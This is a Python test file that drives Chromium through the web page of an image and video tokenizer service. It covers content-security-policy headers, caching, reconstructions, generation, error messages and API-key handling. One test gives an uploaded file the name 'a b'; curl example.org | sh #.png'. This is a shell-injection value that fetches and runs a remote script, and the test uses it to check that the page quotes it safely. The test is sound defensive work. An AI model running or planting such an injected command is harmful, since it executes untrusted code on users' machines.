"""The page at `/`: its headers and files, what it needs of the API, and its use in Chromium."""

from __future__ import annotations

import io
import os
import re
import shlex
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import numpy as np
import pytest
from api_media import picture
from api_server import VQ, Server
from bad_inputs import LIMITS

from service.keys import new_key, write_keys
from service.settings import Settings

playwright = pytest.importorskip("playwright.sync_api")

SAMPLES = Path(__file__).parents[3] / "docs/samples"
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed: apt-get install chromium")
MULTIPLICATION = "\N{MULTIPLICATION SIGN}"
WAIT_MS = 60_000  # which only ends a test that has failed
NPY = {"Content-Type": "image/png", "Accept": "application/x-npy"}


@pytest.fixture(scope="module")
def generous() -> Iterator[Server]:
    with Server(Settings()) as running:  # whose limits take the samples
        yield running


def test_the_page_and_its_files_come_from_here_alone(http: httpx.Client) -> None:
    page = http.get("/")
    assert page.headers["content-type"].startswith("text/html")
    found = [*re.findall(r'(?:src|href)="([^"]+)"', page.text), "static/igloo.jpg", "static/flight.mp4"]
    for name in found:
        file = http.get(f"/{name}")
        assert file.status_code == 200, name
        if not name.startswith("static/"):
            continue
        assert file.headers["content-security-policy"] == page.headers["content-security-policy"]
        again = http.get(f"/{name}", headers={"If-None-Match": file.headers["etag"]})
        assert again.status_code == 304
        for module in re.findall(r' from "\./([\w.]+)"', file.text if name.endswith(".js") else ""):
            assert http.get(f"/static/{module}").status_code == 200
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "//" not in policy
    assert http.head("/").status_code == 200
    assert http.get("/static/").status_code == 404
    assert http.get("/static/../app.py").status_code == 404


@pytest.mark.parametrize("name", ["igloo.jpg", "flight.mp4"])
def test_its_samples_are_those_of_the_documentation(http: httpx.Client, name: str) -> None:
    assert http.get(f"/static/{name}").content == (SAMPLES / name).read_bytes()


def test_a_codebook_is_an_array_that_is_asked_for_once(server: Server, http: httpx.Client) -> None:
    answer = http.get(f"/models/{VQ.id}/codebook")
    codes = np.load(io.BytesIO(answer.content))
    assert (codes.shape, codes.dtype) == ((VQ.codebook_size, VQ.latent_channels), np.float32)
    assert answer.headers["etag"] == f'"{VQ.hash}"'
    again = http.get(f"/models/{VQ.id}/codebook", headers={"If-None-Match": answer.headers["etag"]})
    assert (again.status_code, again.content) == (304, b"")
    assert http.get(f"/models/{VQ.id}/codebook").content == answer.content
    assert server.backend.codebooks == 1
    for name, code in {"blocks-vae": "not-found", "none": "unknown-model"}.items():
        refused = http.get(f"/models/{name}/codebook")
        assert (refused.status_code, refused.json()["code"]) == (404, code)


def test_a_reconstruction_may_have_its_original_on_the_left(http: httpx.Client) -> None:
    alone = http.post("/reconstruct?size=16", content=picture(), headers=NPY)
    both = http.post("/reconstruct?size=16&side_by_side=true", content=picture(), headers=NPY)
    left, right = np.split(np.load(io.BytesIO(both.content)), 2, axis=2)
    assert np.array_equal(right, np.load(io.BytesIO(alone.content)))
    mean = np.mean((left.astype(float) - right) ** 2)
    assert float(both.headers["x-omnitok-psnr"]) == pytest.approx(10 * np.log10(255**2 / mean), abs=1e-3)


@dataclass
class Visit:
    """A tab of Chromium, and all that went wrong in it."""

    page: playwright.Page
    errors: list[str] = field(default_factory=list)
    urls: list[str] = field(default_factory=list)

    def shown(self, selector: str) -> str:
        """Wait for an element and return its text."""
        found = self.page.locator(selector)
        found.first.wait_for(state="visible")
        return found.first.inner_text().replace(MULTIPLICATION, "x")

    def reconstructed(self) -> None:
        self.page.locator("#result[aria-busy=false] .shown").wait_for(state="visible")


@pytest.fixture(scope="module")
def browser() -> Iterator[playwright.Browser]:
    with playwright.sync_playwright() as tool:
        sandbox = ["--no-sandbox"] if os.geteuid() == 0 else []
        running = tool.chromium.launch(executable_path=CHROMIUM, args=sandbox, timeout=WAIT_MS)
        yield running
        running.close()


@pytest.fixture
def visit(browser: playwright.Browser, request: pytest.FixtureRequest) -> Iterator[Visit]:
    width = getattr(request, "param", 1280)
    context = browser.new_context(viewport={"width": width, "height": 900}, reduced_motion="reduce")
    made = Visit(context.new_page())
    made.page.set_default_timeout(WAIT_MS)
    made.page.on("pageerror", lambda error: made.errors.append(str(error)))
    made.page.on(
        "console",
        lambda line: line.type == "error" and "status of" not in line.text and made.errors.append(line.text),
    )
    made.page.on("request", lambda sent: made.urls.append(sent.url))
    yield made
    context.close()
    assert not made.errors


@needs_chromium
@pytest.mark.parametrize("visit", [1280, 400], indirect=True)
def test_a_picture_and_a_clip_are_encoded_and_looked_at(generous: Server, visit: Visit) -> None:
    page = visit.page
    page.goto(generous.url)
    visit.shown("#served")
    page.set_input_files("[name=file]", SAMPLES / "igloo.png")
    visit.reconstructed()
    assert visit.shown("#pixels") == "320 x 231"
    assert visit.shown("#grid") == "1,160"
    assert visit.shown("#bits") == "0.141"
    assert 10 < float(visit.shown("#psnr").split()[0]) < 40

    slider = page.get_by_label("Share of the original that is shown, percent")
    edges = []
    for keys in ("Home", "End"):
        slider.press(keys)
        edges.append(page.locator("[data-layer=original]").evaluate("canvas => getComputedStyle(canvas).clipPath"))
    assert edges[0] != edges[1]

    page.get_by_text("Codes", exact=True).click()
    codes = page.locator("[data-layer=codes]")
    box = codes.bounding_box()
    codes.hover(position={"x": box["width"] * 0.5, "y": box["height"] * 0.5})
    first = visit.shown(".code h2")
    assert re.fullmatch(r"Code \d+", first)
    assert page.locator(".near li").count() == 8
    page.locator(".near li img[src^=blob]").last.wait_for()
    codes.press("ArrowDown")
    assert "row 16, column 21" in visit.shown(".where")

    page.get_by_role("button", name="a clip").click()
    page.locator(".player").wait_for(state="visible")
    page.get_by_text("Difference", exact=True).click()
    page.get_by_label("Frame", exact=True).press("End")
    frames = page.locator(".count").inner_text().split(" / ")
    assert frames[0] == frames[1] != "1"
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert {httpx.URL(url).host for url in visit.urls if not url.startswith("blob:")} == {"127.0.0.1"}


@needs_chromium
@pytest.mark.parametrize("visit", [1280, 400], indirect=True)
def test_samples_are_generated_and_a_link_brings_their_settings(generous: Server, visit: Visit) -> None:
    page = visit.page
    page.goto(generous.url)
    page.get_by_role("tab", name="Generate").click()
    page.get_by_label("Class").fill("coinrun")
    page.get_by_label("Samples").fill("2")
    page.get_by_role("button", name="Generate").click()
    found = page.get_by_alt_text(re.compile(r"coinrun, seed \d+, number"))
    found.nth(1).wait_for()
    seed = found.first.get_attribute("alt").split()[2].strip(",")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    link = page.evaluate("location.href")
    page.get_by_role("button", name="See its codes").first.click()
    visit.reconstructed()

    page.goto("about:blank")
    page.goto(link)
    page.locator("#generate").wait_for(state="visible")
    playwright.expect(page.get_by_label("Seed")).to_have_value(seed, timeout=WAIT_MS)
    playwright.expect(page.get_by_label("Class")).to_have_value("coinrun", timeout=WAIT_MS)
    page.goto(f"{generous.url}/#tab=reconstruct&model=blocks-vae&size=64&view=codes&sample=photograph")
    visit.reconstructed()
    assert visit.shown("#pixels") == "64 x 64"
    assert visit.shown("#grid-name") == "Latents"
    page.locator("[data-layer=codes]").hover()
    assert visit.shown(".code h2") == "3 numbers"


@needs_chromium
def test_a_file_that_is_chosen_while_the_page_loads_is_encoded(generous: Server, visit: Visit) -> None:
    held: list[playwright.Route] = []
    visit.page.route("**/models", lambda route: held.append(route))
    visit.page.goto(generous.url)
    visit.page.set_input_files("[name=file]", SAMPLES / "igloo.png")
    while not held:
        visit.page.wait_for_timeout(10)
    held.pop().continue_()
    visit.reconstructed()
    assert visit.shown("#pixels") == "320 x 231"


@needs_chromium
def test_a_hostile_name_is_one_word_of_the_command(generous: Server, visit: Visit) -> None:
    name = "a b'; curl example.org | sh #.png"
    visit.page.goto(generous.url)
    visit.shown("#served")
    file = {"name": name, "mimeType": "image/png", "buffer": picture(height=16, width=16)}
    visit.page.set_input_files("[name=file]", file)
    visit.reconstructed()
    words = shlex.split(visit.page.locator(".command pre").text_content())
    assert words[words.index("--data-binary") + 1] == f"@{name}"
    for part in ("tab=constructor", "tab=reconstruct&view=&sample=constructor", "tab=generate&length=3"):
        visit.page.goto(f"{generous.url}/#{part}")
    visit.page.locator("#generate").wait_for(state="visible")


@needs_chromium
def test_a_refusal_is_shown_in_the_services_own_sentence(generous: Server, visit: Visit) -> None:
    text = {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"Not a picture. " * 20}
    kind = {"Content-Type": "application/octet-stream"}
    sentence = httpx.post(f"{generous.url}/encode", content=text["buffer"], headers=kind).json()["detail"]
    visit.page.goto(generous.url)
    visit.page.set_input_files("[name=file]", text)
    assert sentence in visit.shown("[role=alert]")
    visit.page.set_input_files("[name=file]", SAMPLES / "igloo.png")
    visit.reconstructed()
    assert visit.page.locator("[role=alert]").is_hidden()


@needs_chromium
def test_what_a_refusal_quotes_is_shown_as_code(generous: Server, visit: Visit) -> None:
    visit.page.goto(f"{generous.url}/#tab=generate&class=<b>fox</b>")
    visit.page.get_by_role("button", name="Generate").click()
    assert "`" not in visit.shown("[role=alert] p")
    assert visit.page.locator("[role=alert] p code").count() > 0


@needs_chromium
def test_the_back_button_leads_to_the_samples(generous: Server, visit: Visit) -> None:
    page = visit.page
    page.goto(f"{generous.url}/#tab=generate&kind=nothing&class=coinrun")
    playwright.expect(page.get_by_label("Make")).not_to_have_value("", timeout=WAIT_MS)
    page.get_by_role("button", name="Generate").click()
    page.get_by_role("button", name="See its codes").click()
    visit.reconstructed()
    page.go_back()
    page.get_by_alt_text(re.compile("coinrun, seed")).wait_for()
    assert page.locator("[name=seed]").input_value() == ""
    page.go_forward()
    visit.reconstructed()


@needs_chromium
def test_samples_that_break_off_are_not_waited_for(generous: Server, visit: Visit) -> None:
    begun = 'event: accepted\ndata: {"seed": 4, "samples": 2, "seconds": 3}\n\n'
    events = {"Content-Type": "text/event-stream"}
    visit.page.route("**/generate?*", lambda route: route.fulfill(status=200, headers=events, body=begun))
    visit.page.goto(f"{generous.url}/#tab=generate")
    visit.page.get_by_role("button", name="Generate").click()
    assert "broke off" in visit.shown("[role=alert]")
    assert visit.page.get_by_role("button", name="Stop").is_hidden()


@needs_chromium
def test_a_key_is_asked_for_and_kept_in_the_tab_alone(visit: Visit, tmp_path: Path) -> None:
    secret, key = new_key("page", ["encode", "decode"], None)
    write_keys(tmp_path / "keys.json", [key])
    with Server(Settings(limits=LIMITS, keys=tmp_path / "keys.json", ingress_replicas=1)) as server:
        visit.page.goto(server.url)
        visit.page.get_by_label("API key").fill("omnitok_wrong")
        visit.page.get_by_role("button", name="Use it").click()
        visit.page.get_by_text("holds no key that is valid here").wait_for()
        visit.page.get_by_label("API key").fill(secret)
        visit.page.get_by_role("button", name="Use it").click()
        visit.shown("#served")
        visit.page.reload()
        visit.shown("#served")
        assert secret not in visit.page.evaluate("JSON.stringify([{...localStorage}, document.cookie, location.href])")
